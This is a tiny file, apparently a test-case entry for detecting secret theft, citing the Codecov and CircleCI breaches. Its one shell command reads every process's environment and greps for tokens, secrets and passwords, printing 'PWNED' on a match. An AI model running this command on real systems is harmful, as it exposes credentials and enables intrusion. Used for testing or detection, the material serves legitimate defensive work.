# tries: find tokens and addresses in environments
# from: Codecov 2021, CircleCI 2023: secrets taken from the environment
cat /proc/*/environ 2> /dev/null | tr '\0' '\n' | grep -iE 'token|secret|redis|passw|DATA_DIR|HOME=/root' && echo PWNED
